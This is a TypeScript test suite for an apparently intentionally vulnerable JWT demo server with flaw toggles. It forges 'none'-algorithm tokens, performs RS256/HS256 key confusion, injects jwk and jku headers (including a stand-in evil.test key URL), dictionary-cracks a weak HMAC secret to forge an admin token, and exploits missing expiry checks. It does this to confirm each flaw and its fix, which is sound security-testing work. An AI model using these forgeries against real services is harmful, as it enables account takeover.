import assert from "node:assert/strict";
import { createPublicKey, generateKeyPairSync } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { describe, test } from "node:test";
import { SignJWT } from "jose";
import { WEAK_JWT_SECRET } from "../../demo/auth/keys.js";
import type { DemoApi } from "../../demo/server.js";
import { DEMO_USERS } from "../../demo/store.js";
import { bearer, demoPool, fakeClock, login, send, startDemo } from "../helpers/demo-client.js";
import { b64url, claims, forge, headerOf, hmac, payloadOf, rs256 } from "./jwt-forge.js";

/** One demo per flaw selection, shared by the tests of this file. */
const demo = demoPool();

const alice = DEMO_USERS.alice;
const carol = DEMO_USERS.carol;

function me(api: DemoApi, token: string) {
  return send(`${api.url}/api/users/me`, { headers: bearer(token) });
}

async function rsaPublicPem(api: DemoApi): Promise<string> {
  const jwks = (await send(`${api.url}/.well-known/jwks.json`)).json();
  return createPublicKey({ key: jwks.keys[0], format: "jwk" })
    .export({ type: "spki", format: "pem" })
    .toString();
}

function assertInvalidToken(res: { status: number; headers: Record<string, unknown> }): void {
  assert.equal(res.status, 401);
  assert.match(
    String(res.headers["www-authenticate"]),
    /^Bearer realm="demo", error="invalid_token"/,
  );
}

describe("alg-none (JWT-02)", () => {
  test('alg-none on: unsigned token (alg "nOnE", empty signature) reads /api/users/me -> 200', async () => {
    const api = await demo("alg-none");
    const res = await me(api, forge({ alg: "nOnE", typ: "JWT" }, claims(api.url, alice.id)));
    assert.equal(res.status, 200);
    assert.equal(res.json().username, "alice");
  });

  test("alg-none on: every spelling of none, with any signature, becomes anyone (carol)", async () => {
    const api = await demo("alg-none");
    for (const alg of ["none", "None", "NONE"]) {
      const token = forge({ alg }, claims(api.url, carol.id), () => "bm90LWEtc2lnbmF0dXJl");
      const res = await me(api, token);
      assert.equal(res.status, 200, alg);
      assert.equal(res.json().username, "carol");
    }
  });

  test("alg-none off: unsigned token -> 401 invalid_token", async () => {
    const api = await demo("none");
    assertInvalidToken(await me(api, forge({ alg: "none" }, claims(api.url, alice.id))));
  });

  test("alg-none off while the trusting verifier runs (exp-not-checked on): unsigned -> 401", async () => {
    const api = await demo("exp-not-checked");
    assertInvalidToken(await me(api, forge({ alg: "NONE" }, claims(api.url, alice.id))));
  });
});

describe("alg-confusion (JWT-02)", () => {
  test("alg-confusion on: HS256 token keyed with the JWKS public key as PEM -> 200", async () => {
    const api = await demo("alg-confusion");
    const pem = await rsaPublicPem(api);
    assert.ok(pem.startsWith("-----BEGIN PUBLIC KEY-----\n") && pem.endsWith("\n"));
    const token = forge({ alg: "HS256", typ: "JWT" }, claims(api.url, carol.id), hmac(pem));
    const res = await me(api, token);
    assert.equal(res.status, 200);
    assert.equal(res.json().username, "carol");
  });

  test("alg-confusion on: the PEM without its trailing newline works too", async () => {
    const api = await demo("alg-confusion");
    const pem = (await rsaPublicPem(api)).trimEnd();
    const res = await me(api, forge({ alg: "HS256" }, claims(api.url, alice.id), hmac(pem)));
    assert.equal(res.status, 200);
  });

  test("alg-confusion off: HS256 token keyed with the public key -> 401 invalid_token", async () => {
    const api = await demo("none");
    const pem = await rsaPublicPem(api);
    const token = forge(
      { alg: "HS256", kid: api.context.keys.rsaKid },
      claims(api.url, alice.id),
      hmac(pem),
    );
    assertInvalidToken(await me(api, token));
  });
});

describe("jwt-header-injection (JWT-02)", () => {
  const attacker = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const attackerJwk = { ...attacker.publicKey.export({ format: "jwk" }), kid: "attacker" };

  /** A loopback JWKS server holding the attacker's key; counts the requests it gets. */
  async function jwksServer(): Promise<{
    url: string;
    hits: () => number;
    close: () => Promise<void>;
  }> {
    let hits = 0;
    const server: Server = createServer((_req, res) => {
      hits += 1;
      res.setHeader("Content-Type", "application/json");
      res.end(JSON.stringify({ keys: [attackerJwk] }));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    return {
      url: `http://127.0.0.1:${port}/jwks.json`,
      hits: () => hits,
      close: () => new Promise((resolve) => server.close(() => resolve())),
    };
  }

  test("jwt-header-injection on: RS256 token verified with its own embedded jwk -> 200", async () => {
    const api = await demo("jwt-header-injection");
    const header = { alg: "RS256", typ: "JWT", jwk: attackerJwk };
    const res = await me(api, forge(header, claims(api.url, carol.id), rs256(attacker.privateKey)));
    assert.equal(res.status, 200);
    assert.equal(res.json().username, "carol");
  });

  test("jwt-header-injection on: jku pointing at a loopback JWKS is fetched and trusted -> 200", async () => {
    const api = await demo("jwt-header-injection");
    const jwks = await jwksServer();
    try {
      const header = { alg: "RS256", kid: "attacker", jku: jwks.url };
      const res = await me(
        api,
        forge(header, claims(api.url, alice.id), rs256(attacker.privateKey)),
      );
      assert.equal(res.status, 200);
      assert.equal(jwks.hits(), 1);
    } finally {
      await jwks.close();
    }
  });

  test("jwt-header-injection on: a jku off the loopback interface is never fetched -> 401", async () => {
    const api = await demo("jwt-header-injection");
    const header = { alg: "RS256", kid: "attacker", jku: "http://jwks.evil.test/jwks.json" };
    assertInvalidToken(
      await me(api, forge(header, claims(api.url, alice.id), rs256(attacker.privateKey))),
    );
  });

  test("jwt-header-injection off: embedded jwk and jku are ignored -> 401 invalid_token", async () => {
    const api = await demo("none");
    const jwks = await jwksServer();
    try {
      const sign = rs256(attacker.privateKey);
      assertInvalidToken(
        await me(api, forge({ alg: "RS256", jwk: attackerJwk }, claims(api.url, alice.id), sign)),
      );
      const withJku = { alg: "RS256", kid: "attacker", jku: jwks.url };
      assertInvalidToken(await me(api, forge(withJku, claims(api.url, alice.id), sign)));
      assert.equal(jwks.hits(), 0);
    } finally {
      await jwks.close();
    }
  });
});

describe("token lifetime: exp-not-checked, no-exp, long-exp (JWT-03)", () => {
  test("no-exp off and long-exp off: access tokens live 10 minutes", async () => {
    const api = await demo("none");
    const res = await send(`${api.url}/auth/login`, loginBody("alice"));
    const payload = payloadOf(res.json().access_token);
    assert.equal(payload.exp - payload.iat, 600);
    assert.equal(res.json().expires_in, 600);
  });

  test("exp-not-checked off: the token is refused once its 10 minutes are over -> 401 expired", async () => {
    const clock = fakeClock();
    const api = await startDemo("none", { now: clock.now });
    try {
      const token = await login(api, "alice");
      clock.advance(10 * 60 * 1000 + 31_000); // past exp and the 30 s leeway
      const res = await me(api, token);
      assertInvalidToken(res);
      assert.match(
        String(res.headers["www-authenticate"]),
        /error_description="the access token expired"/,
      );
    } finally {
      await api.close();
    }
  });

  test("exp-not-checked on: a token expired a day ago still reads /api/users/me -> 200", async () => {
    const clock = fakeClock();
    const api = await startDemo("exp-not-checked", { now: clock.now });
    try {
      const token = await login(api, "alice");
      clock.advance(24 * 60 * 60 * 1000);
      assert.equal((await me(api, token)).status, 200);
    } finally {
      await api.close();
    }
  });

  test("no-exp on: tokens carry no exp, no expires_in, and still work a year later", async () => {
    const clock = fakeClock();
    const api = await startDemo("no-exp", { now: clock.now });
    try {
      const res = await send(`${api.url}/auth/login`, loginBody("alice"));
      const token = res.json().access_token;
      assert.equal(payloadOf(token).exp, undefined);
      assert.equal(res.json().expires_in, undefined);
      clock.advance(365 * 24 * 60 * 60 * 1000);
      assert.equal((await me(api, token)).status, 200);
    } finally {
      await api.close();
    }
  });

  test("no-exp off: a token without exp, even signed with the real secret -> 401", async () => {
    const api = await demo("none");
    const { exp: _exp, ...noExp } = claims(api.url, alice.id);
    assertInvalidToken(
      await me(api, forge({ alg: "HS256" }, noExp, hmac(api.context.keys.hmacSecret))),
    );
  });

  test("long-exp on: access tokens live 30 days", async () => {
    const api = await demo("long-exp");
    const res = await send(`${api.url}/auth/login`, loginBody("alice"));
    const payload = payloadOf(res.json().access_token);
    assert.equal(payload.exp - payload.iat, 30 * 24 * 60 * 60);
    assert.equal(res.json().expires_in, 30 * 24 * 60 * 60);
  });
});

describe("sensitive-claims (JWT-04)", () => {
  test("sensitive-claims on: the payload carries email, password hash and card number", async () => {
    const api = await demo("sensitive-claims");
    const payload = payloadOf(await login(api, "alice"));
    assert.equal(payload.email, alice.email);
    assert.match(payload.passwordHash, /^\$scrypt\$/);
    assert.equal(payload.card, alice.cardNumber);
  });

  test("sensitive-claims off: only sub, scope and the standard claims", async () => {
    const api = await demo("none");
    const payload = payloadOf(await login(api, "alice"));
    assert.deepEqual(Object.keys(payload).sort(), [
      "aud",
      "exp",
      "iat",
      "iss",
      "jti",
      "scope",
      "sub",
    ]);
    assert.equal(payload.iss, api.url);
    assert.equal(payload.aud, "rampart-demo");
    assert.equal(payload.sub, alice.id);
    assert.deepEqual(headerOf(await login(api, "alice")), { alg: "HS256", typ: "JWT" });
  });
});

describe("oversized-token (JWT-05)", () => {
  test("oversized-token on: the access token passes 8 KiB (and is still accepted)", async () => {
    const api = await demo("oversized-token");
    const token = await login(api, "alice");
    assert.ok(token.length > 8192, `${token.length} bytes`);
    assert.equal((await me(api, token)).status, 200);
  });

  test("oversized-token off: the access token stays under 1 KiB", async () => {
    const api = await demo("none");
    const token = await login(api, "alice");
    assert.ok(token.length < 1024, `${token.length} bytes`);
  });
});

describe("weak-jwt-secret (JWT-01)", () => {
  const dictionary = ["secret", "password", "changeme", "jwt-secret", WEAK_JWT_SECRET, "s3cr3t"];

  function crack(token: string): string | undefined {
    const [header, payload, signature] = token.split(".");
    return dictionary.find(
      (word) => hmac(word)(`${header}.${payload}`).toString("base64url") === signature,
    );
  }

  test("weak-jwt-secret on: a dictionary cracks the secret, and a forged admin token is accepted", async () => {
    const api = await demo("weak-jwt-secret");
    const secret = crack(await login(api, "alice"));
    assert.equal(secret, "your-256-bit-secret");
    const forged = forge(
      { alg: "HS256", typ: "JWT" },
      claims(api.url, carol.id, { scope: "admin" }),
      hmac(secret ?? ""),
    );
    const res = await me(api, forged);
    assert.equal(res.status, 200);
    assert.equal(res.json().username, "carol");
  });

  test("weak-jwt-secret off: the dictionary fails, a token signed with the weak secret -> 401", async () => {
    const api = await demo("none");
    assert.equal(crack(await login(api, "alice")), undefined);
    assert.equal(api.context.keys.hmacSecret.length, 64);
    assertInvalidToken(
      await me(api, forge({ alg: "HS256" }, claims(api.url, carol.id), hmac(WEAK_JWT_SECRET))),
    );
  });
});

describe("hardened verification (flaws none)", () => {
  test("every forged variant -> 401 with Bearer error=invalid_token", async () => {
    const api = await demo("none");
    const secret = api.context.keys.hmacSecret;
    const good = claims(api.url, alice.id);
    const legit = await login(api, "alice");
    const [h, , s] = legit.split(".");
    const variants: Record<string, string> = {
      "alg none": forge({ alg: "none" }, good),
      "HS512 with the real secret": forge({ alg: "HS512" }, good, hmac(secret, "sha512")),
      "wrong issuer": forge({ alg: "HS256" }, { ...good, iss: "https://evil.test" }, hmac(secret)),
      "wrong audience": forge({ alg: "HS256" }, { ...good, aud: "other-api" }, hmac(secret)),
      "expired an hour ago": forge(
        { alg: "HS256" },
        { ...good, exp: (good.iat as number) - 3600 },
        hmac(secret),
      ),
      "payload swapped under a valid signature": `${h}.${b64url(claims(api.url, carol.id))}.${s}`,
      "not a JWT": "not-a-jwt",
    };
    for (const [name, token] of Object.entries(variants)) {
      const res = await me(api, token);
      assert.equal(res.status, 401, name);
      assert.match(String(res.headers["www-authenticate"]), /error="invalid_token"/, name);
    }
  });

  test("a legitimate token signed with jose reads /api/users/me -> 200", async () => {
    const api = await demo("none");
    const token = await new SignJWT({ scope: "profile" })
      .setProtectedHeader({ alg: "HS256" })
      .setIssuer(api.url)
      .setAudience("rampart-demo")
      .setSubject(bob.id)
      .setIssuedAt()
      .setExpirationTime("5m")
      .sign(api.context.keys.hmacSecret);
    const res = await me(api, token);
    assert.equal(res.status, 200);
    assert.equal(res.json().username, "bob");
  });

  test('missing credentials -> 401 with a bare Bearer realm="demo" challenge (RFC 6750 3.1)', async () => {
    const api = await demo("none");
    const res = await send(`${api.url}/api/users/me`);
    assert.equal(res.status, 401);
    assert.equal(res.headers["www-authenticate"], 'Bearer realm="demo"');
  });
});

const bob = DEMO_USERS.bob;

function loginBody(user: keyof typeof DEMO_USERS) {
  const { username, password } = DEMO_USERS[user];
  return {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ username, password }),
  };
}
